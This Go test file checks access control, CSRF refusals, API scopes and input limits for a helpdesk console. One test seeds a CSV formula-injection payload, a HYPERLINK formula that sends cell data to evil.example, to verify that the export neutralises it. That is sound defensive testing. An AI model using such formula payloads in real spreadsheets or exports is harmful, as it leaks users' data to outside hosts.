// SPDX-License-Identifier: EUPL-1.2

package web

import (
	"context"
	"encoding/csv"
	"helpdesk/web/api"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"helpdesk/agents"
	"helpdesk/kb"
	"helpdesk/tickets"
)

// privilegeFixture: a level-1 ticket, a level-2 ticket nobody holds and a
// level-2 ticket held by the level-1 agent luca, with users of every role.
type privilegeFixture struct {
	tc             *testConsole
	luca           int64
	l1, l2, l2Luca *tickets.Ticket
}

func newPrivilegeFixture(t *testing.T, opt func(*Options)) *privilegeFixture {
	t.Helper()
	f := &privilegeFixture{tc: newTestConsole(t, opt)}
	f.luca = f.tc.addUser("luca", agents.RoleAgentL1)
	f.tc.addUser("giulia", agents.RoleAgentL2)
	f.tc.addUser("eva", agents.RoleEditor)
	f.tc.addUser("sara", agents.RoleSupervisor)
	f.tc.addUser("anna", agents.RoleAdmin)
	ctx, s, pool := context.Background(), f.tc.tickets, f.tc.pool
	mk := func(subject string) *tickets.Ticket {
		tk, err := s.Create(ctx, pool, "bot", tickets.NewTicket{OriginChannel: "web", Subject: subject, Urgency: tickets.Medium, Impact: tickets.Medium})
		if err != nil {
			t.Fatal(err)
		}
		return tk
	}
	f.l1, f.l2, f.l2Luca = mk("stampante livello uno"), mk("server livello due"), mk("rete livello due di luca")
	for _, tk := range []*tickets.Ticket{f.l2, f.l2Luca} {
		if _, err := s.Escalate(ctx, pool, tk.ID, "bot", "motivo interno riservato"); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := s.Assign(ctx, pool, f.l2Luca.ID, "agent:sara", &f.luca, ""); err != nil {
		t.Fatal(err)
	}
	return f
}

// TestTicketAccessMatrix: every role × every ticket route × a level-1
// ticket, a level-2 one and a level-2 one the level-1 agent holds. The
// rule is the conversations' (mayServeLevel); editors have no ticket
// pages unless an admin grants them (then read only).
func TestTicketAccessMatrix(t *testing.T) {
	t.Parallel()
	for _, grant := range []bool{false, true} {
		f := newPrivilegeFixture(t, func(o *Options) { o.EditorsReadTickets = grant })
		routes := []struct {
			method, path string
			form         url.Values
		}{
			{"GET", "", nil},
			{"GET", "/sla", nil},
			{"GET", "contact", nil}, // the contact page's answer: /console/contacts/{id}
			{"POST", "/classify", url.Values{"urgency": {"high"}, "impact": {"high"}}},
			{"POST", "/categorise", url.Values{"category": {"Rete"}}},
			{"POST", "/assign", url.Values{"agent": {itoa64(f.luca)}, "group": {"reti"}}},
			{"POST", "/note", url.Values{"body": {"nota interna"}}},
		}
		type ticketCase struct {
			name string
			tk   *tickets.Ticket
		}
		tks := []ticketCase{{"level 1", f.l1}, {"level 2", f.l2}, {"level 2 held by luca", f.l2Luca}}
		// want is the status a role gets on a route of a ticket.
		want := func(user, method string, tk *tickets.Ticket) int {
			ok := http.StatusOK
			if method == "POST" {
				ok = http.StatusSeeOther
			}
			switch user {
			case "luca":
				if tk.ID == f.l2.ID {
					return http.StatusForbidden
				}
				return ok
			case "eva":
				if grant && method == "GET" {
					return ok
				}
				return http.StatusForbidden
			case "anna":
				return ok
			}
			return ok
		}
		for _, user := range []string{"luca", "giulia", "eva", "sara", "anna"} {
			c := f.tc.login(user)
			for _, tc := range tks {
				for _, rt := range routes {
					path := "/console/tickets/" + itoa64(tc.tk.ID) + rt.path
					if rt.path == "contact" {
						path = "/console/contacts/" + itoa64(tc.tk.ID)
					}
					name := strings.Join([]string{map[bool]string{false: "no grant", true: "grant"}[grant], user, tc.name, rt.method, rt.path}, " ")
					t.Run(name, func(t *testing.T) {
						var code int
						var body string
						if rt.method == "GET" {
							code, body, _ = c.get(path)
						} else {
							code, body, _ = c.post(path, maps.Clone(rt.form)) // post adds the session's token to the form
						}
						w := want(user, rt.method, tc.tk)
						if user == "eva" && rt.path == "contact" {
							w = http.StatusForbidden // the contact page is the desk's, grant or not
						}
						if code != w {
							t.Fatalf("%s %s = %d, want %d\n%.300s", rt.method, path, code, w, body)
						}
						if code == http.StatusForbidden && user == "luca" && !strings.Contains(body, "secondo livello") && !strings.Contains(body, "level-2") {
							t.Errorf("refusal does not say why:\n%.600s", body)
						}
						if code == http.StatusOK && rt.method == "GET" && rt.path == "" && tc.tk.ID == f.l2.ID && strings.Contains(body, "motivo interno") != (user != "luca") {
							t.Errorf("escalation reason shown = %v to %s", strings.Contains(body, "motivo interno"), user)
						}
					})
				}
			}
			// The list: a level-1 agent sees level-1 tickets and theirs;
			// an editor sees none without the grant.
			code, body, _ := c.get("/console/tickets")
			switch user {
			case "luca":
				if code != 200 || strings.Contains(body, f.l2.Subject) || !strings.Contains(body, f.l2Luca.Subject) || !strings.Contains(body, f.l1.Subject) {
					t.Errorf("luca's list (%d) shows the wrong tickets", code)
				}
			case "eva":
				if (code == 200) != grant {
					t.Errorf("editor's list: %d with grant %v", code, grant)
				}
			default:
				if code != 200 || !strings.Contains(body, f.l2.Subject) {
					t.Errorf("%s's list (%d) lacks the level-2 ticket", user, code)
				}
			}
		}
	}
}

func itoa64(n int64) string { return strconv.FormatInt(n, 10) }

// Bad ids and unknown agents are the request's fault: 400 or 404, never 500.
func TestTicketBadIDsAndAgents(t *testing.T) {
	t.Parallel()
	f := newPrivilegeFixture(t, nil)
	sara := f.tc.login("sara")
	var eva agents.User
	if err := f.tc.pool.GetContext(t.Context(), &eva.ID, `SELECT id FROM users WHERE username = 'eva'`); err != nil {
		t.Fatal(err)
	}
	id := "/console/tickets/" + itoa64(f.l1.ID)
	for _, tc := range []struct {
		name, path string
		form       url.Values
		want       int
	}{
		{"assign to no such user", id + "/assign", url.Values{"agent": {"987654"}}, http.StatusBadRequest},
		{"assign to an editor", id + "/assign", url.Values{"agent": {itoa64(eva.ID)}}, http.StatusBadRequest},
		{"assign to a word", id + "/assign", url.Values{"agent": {"luca"}}, http.StatusBadRequest},
		{"assign to a real agent", id + "/assign", url.Values{"agent": {itoa64(f.luca)}}, http.StatusSeeOther},
		{"note on an id that is a word", "/console/tickets/abc/note", url.Values{"body": {"x"}}, http.StatusBadRequest},
		{"note on no such ticket", "/console/tickets/987654/note", url.Values{"body": {"x"}}, http.StatusNotFound},
		{"note on an id beyond int64", "/console/tickets/99999999999999999999/note", url.Values{"body": {"x"}}, http.StatusBadRequest},
		{"page of a negative id", "/console/tickets/-3", nil, http.StatusBadRequest},
		{"page of no such ticket", "/console/tickets/987654", nil, http.StatusNotFound},
		{"conversation of a word", "/console/conversations/abc", nil, http.StatusBadRequest},
		{"conversation of no such id", "/console/conversations/987654", nil, http.StatusNotFound},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var code int
			var body string
			if tc.form == nil {
				code, body, _ = sara.get(tc.path)
			} else {
				code, body, _ = sara.post(tc.path, tc.form)
			}
			if code != tc.want {
				t.Fatalf("= %d, want %d\n%.400s", code, tc.want, body)
			}
		})
	}
}

// The refusal pages say what was refused: a form without this session's
// token, or one sent by another site — not "your role does not allow".
func TestRefusalPagesSayWhat(t *testing.T) {
	t.Parallel()
	f := newPrivilegeFixture(t, nil)
	sara := f.tc.login("sara")
	path := "/console/tickets/" + itoa64(f.l1.ID) + "/note"
	code, body, _ := sara.post(path, url.Values{"body": {"x"}, "csrf": {"stale"}})
	if code != http.StatusForbidden || !strings.Contains(body, "modulo è scaduto") || strings.Contains(body, "ruolo non consente") {
		t.Errorf("CSRF refusal %d:\n%.800s", code, body)
	}
	req, _ := http.NewRequest("POST", sara.base+path, strings.NewReader(url.Values{"body": {"x"}, "csrf": {sara.csrf}}.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Sec-Fetch-Site", "cross-site")
	code, body, _ = sara.do(req)
	if code != http.StatusForbidden || !strings.Contains(body, "altro sito") || strings.Contains(body, "ruolo non consente") {
		t.Errorf("cross-site refusal %d:\n%.800s", code, body)
	}
	eva := f.tc.login("eva")
	if code, body, _ := eva.get("/console/reports"); code != http.StatusForbidden || !strings.Contains(body, "ruolo non consente") {
		t.Errorf("role refusal %d:\n%.500s", code, body)
	}
}

// Spreadsheet formulas typed into the help centre's search come out of
// the CSV export as text, and editors see the same queries aggregated
// with personal data masked.
func TestUnansweredQueriesAreInert(t *testing.T) {
	t.Parallel()
	f := newPrivilegeFixture(t, nil)
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "@SUM(1+1)", "+39 333 1234567", "-2+3", "\t=1", "\r=1"}
	for _, q := range append(hostile, "vpn mario.rossi@example.org", "vpn mario.rossi@example.org") {
		if _, err := f.tc.pool.Exec(`INSERT INTO kb_searches (query, lang, audience, channel, top_entry, top_score, confidence, confident, hits)
			VALUES ($1, 'it', 'public', 'web', '', 0, 0.1, false, 0)`, q); err != nil {
			t.Fatal(err)
		}
	}
	sara := f.tc.login("sara")
	code, body, _ := sara.get("/console/reports/csv/kb_unanswered")
	if code != http.StatusOK {
		t.Fatalf("csv: %d", code)
	}
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for _, rec := range recs[1:] {
		switch rec[0][0] {
		case '=', '+', '-', '@', '\t', '\r':
			t.Errorf("live formula cell %q", rec[0])
		}
		if strings.HasPrefix(rec[0], "'") {
			seen++
		}
	}
	if seen != len(hostile) {
		t.Errorf("%d neutralised cells, want %d:\n%s", seen, len(hostile), body)
	}
	code, page, _ := f.tc.login("eva").get("/console/kb")
	if code != http.StatusOK || !strings.Contains(page, `id="kb-gaps"`) || strings.Contains(page, "mario.rossi@example.org") {
		t.Errorf("editor's unanswered queries (%d): masked table missing or e-mail shown", code)
	}
}

// kb:read reads what the public help centre shows; kb:internal adds the
// internal entries.
func TestAPIKnowledgeBaseAudience(t *testing.T) {
	t.Parallel()
	at := newAPITest(t)
	editor := at.token(agents.ScopeKBRead, agents.ScopeKBWrite)
	for _, e := range []map[string]any{
		{"id": "vpn-public", "kind": "faq", "lang": "en", "title": "The VPN is slow", "audience": "public", "body": "Restart the client."},
		{"id": "vpn-internal", "kind": "faq", "lang": "en", "title": "VPN gateway admin", "audience": "internal", "body": "The gateway password is in the vault."},
	} {
		if code := at.call(editor, "POST", "/api/v1/kb/entries", e, nil); code != 201 {
			t.Fatalf("create %s: %d", e["id"], code)
		}
		for _, s := range []string{"in_review", "published"} {
			if code := at.call(editor, "POST", "/api/v1/kb/entries/"+e["id"].(string)+"/status", api.KBStatus{Status: kb.Status(s)}, nil); code != 200 {
				t.Fatalf("→%s: %d", s, code)
			}
		}
	}
	reader, internal := at.token(agents.ScopeKBRead), at.token(agents.ScopeKBRead, agents.ScopeKBInternal)
	for _, tc := range []struct {
		name, token, path string
		wantCode          int
		wantIDs           string
	}{
		{"reader lists", reader, "/api/v1/kb/entries", 200, "vpn-public"},
		{"reader asks for internal", reader, "/api/v1/kb/entries?audience=internal", 403, ""},
		{"reader gets internal", reader, "/api/v1/kb/entries/vpn-internal", 404, ""},
		{"reader gets public", reader, "/api/v1/kb/entries/vpn-public", 200, ""},
		{"internal lists", internal, "/api/v1/kb/entries", 200, "vpn-internal,vpn-public"},
		{"internal gets internal", internal, "/api/v1/kb/entries/vpn-internal", 200, ""},
		{"kb:internal alone", at.token(agents.ScopeKBInternal), "/api/v1/kb/entries", 403, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var es api.Entries
			var out any
			if strings.HasSuffix(tc.path, "entries") {
				out = &es
			}
			if code := at.call(tc.token, "GET", tc.path, nil, out); code != tc.wantCode {
				t.Fatalf("= %d, want %d", code, tc.wantCode)
			}
			if tc.wantIDs != "" {
				var ids []string
				for _, e := range es.Entries {
					ids = append(ids, e.ID)
				}
				slices.Sort(ids)
				if strings.Join(ids, ",") != tc.wantIDs {
					t.Errorf("entries %v, want %s", ids, tc.wantIDs)
				}
			}
		})
	}
}

// With SeparateMetrics, /metrics is off the public handler and served by
// MetricsHandler alone.
func TestMetricsOffThePublicListener(t *testing.T) {
	t.Parallel()
	for _, separate := range []bool{false, true} {
		tc := newTestConsole(t, func(o *Options) { o.SeparateMetrics = separate })
		c := tc.client()
		c.get("/healthz") // a request to count
		code, body, _ := c.get("/metrics")
		if separate && code != http.StatusNotFound {
			t.Errorf("separate: public /metrics = %d", code)
		}
		if !separate && (code != http.StatusOK || !strings.Contains(body, "helpdesk_http_requests_total")) {
			t.Errorf("default: public /metrics = %d", code)
		}
		rec := httptest.NewRecorder()
		tc.srv.MetricsHandler().ServeHTTP(rec, httptest.NewRequest("GET", "/metrics", nil))
		if rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), "helpdesk_http_requests_total") {
			t.Errorf("metrics handler: %d", rec.Code)
		}
	}
}

// Bodies over the limit answer 413 on every kind of route, the web form's
// url-encoded post included (it answered 422: a handler that read the
// form quietly found the fields missing).
func TestBodyOverTheLimitIs413(t *testing.T) {
	t.Parallel()
	p := newPortal(t, nil)
	c := p.client()
	big := validForm("mario.rossi@example.org")
	big.Set("description", strings.Repeat("x", 2<<20)) // the portal's limit is 1 MiB
	for _, tc := range []struct {
		name string
		send func() (int, string, http.Header)
	}{
		// Refused from its Content-Length, before the body is read: the
		// client waits for that answer (as curl and browsers do with large
		// bodies), or the server's close could reset its upload.
		{"web form, url-encoded", func() (int, string, http.Header) {
			return p.postForm(c, "/help/request", big, "Expect", "100-continue")
		}},
		{"web form, multipart", func() (int, string, http.Header) { return p.postMultipart(c, "/help/request", big, "", nil) }},
		{"web chat", func() (int, string, http.Header) {
			req, _ := http.NewRequest("POST", p.ts.URL+"/help/chat/send", strings.NewReader(`{"text":"`+strings.Repeat("x", 2<<20)+`"}`))
			req.Header.Set("Content-Type", "application/json")
			req.Header.Set("Expect", "100-continue")
			return p.do(c, req)
		}},
		{"console login", func() (int, string, http.Header) {
			return p.postForm(c, "/console/login", url.Values{"username": {strings.Repeat("x", 2<<20)}}, "Expect", "100-continue")
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if code, body, _ := tc.send(); code != http.StatusRequestEntityTooLarge {
				t.Errorf("= %d, want 413\n%.300s", code, body)
			}
		})
	}
	var n int
	if err := p.pool.Get(&n, `SELECT count(*) FROM tickets`); err != nil || n != 0 {
		t.Errorf("%d tickets opened by refused posts (%v)", n, err)
	}
}
